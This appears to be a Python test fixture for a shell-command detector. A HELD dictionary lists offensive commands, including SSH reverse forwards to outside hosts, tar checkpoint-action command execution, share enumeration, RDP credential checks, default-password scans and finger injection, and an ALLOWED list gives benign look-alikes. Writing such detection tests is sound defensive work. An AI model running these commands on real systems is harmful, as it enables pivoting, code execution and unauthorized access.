"""Offensive-notes leftovers, second wave (session 21, left25).

Known misses from pentest notes the lead listed: a reverse forward opening a port of this machine to
another host (``ssh -R 8080:127.0.0.1:80 attacker``), tar made to run a command
(``--checkpoint-action=exec=sh shell.sh``), another host's shares listed (``showmount -e``, ``smbutil
view``), a login tried on an RDP port (``impacket-rdp_check``), default passwords tried by ``eyewitness
--active-scan``, and a command injected through finger (``finger "|/bin/id@HOST"``). The variants below
are written for this test, not the measured lines.
"""

HELD = {
    "reverse forward to another host": [
        "ssh -R 8080:127.0.0.1:80 attacker",
        "ssh -R 4444:localhost:4444 -N pivot@relay.example.net",
        "ssh -fNR 8080:localhost:80 kali@10.10.14.3",
        "ssh -p 2222 -R 9000:localhost:9000 ci@203.0.113.40 -N",
        "ssh -o RemoteForward='8080 localhost:80' vps",
    ],
    "tar running a command": [
        "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=sh shell.sh *",
        "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh",
        "tar -czf b.tgz --checkpoint=10 --checkpoint-action=exec='bash -c \"id\"' .",
        "tar --checkpoint-action exec=id -cf x .",
        "tar --to-command='sh -c id' -xf a.tar",
        "tar -I 'sh -c id' -cf x.tar .",
    ],
    "share listing of another host": [
        "showmount -e 10.10.13.37",
        "showmount --exports nfs.target.example",
        "showmount -a 192.168.1.20",
        "smbutil view //guest@10.0.0.5",
        "smbutil view -g //10.0.0.5",
    ],
    "login tried on an RDP port": [
        "impacket-rdp_check corp/admin:pass@10.0.0.5",
        "rdp_check.py corp/admin@172.16.1.5",
        "python3 rdp_check.py admin:Passw0rd@10.1.1.4",
    ],
    "default passwords tried": [
        "eyewitness -f urls.txt --active-scan",
        "EyeWitness.py --web -f hosts.txt --active-scan --no-prompt",
    ],
    "command injected through finger": [
        'finger "|/bin/id@192.168.0.135"',
        "finger '|/bin/ls -a /@10.0.0.3'",
        "finger \"|/bin/sh -c 'id'@target\"",
    ],
}

ALLOWED = [
    "ssh -L 8080:localhost:80 user@host",
    "ssh -N -L 5432:127.0.0.1:5432 dev@db.example.com",
    "ssh -R 8080:localhost:80 localhost",
    "ssh -o ServerAliveInterval=30 user@build.example.com",
    "tar -czf backup.tgz --checkpoint=1000 --checkpoint-action=dot src",
    "tar -cf a.tar --checkpoint=100 --checkpoint-action=echo src",
    "tar -I zstd -cf x.tar.zst src",
    "tar --use-compress-program=pigz -cf x.tgz src",
    "tar -xf a.tar --to-command=md5sum",
    "showmount -e localhost",
    "showmount -e 127.0.0.1",
    "smbutil view //guest@localhost",
    "smbutil statshares -a",
    "eyewitness -f urls.txt --web",
    "finger alice",
    "finger alice@localhost",
    "finger -l",
]
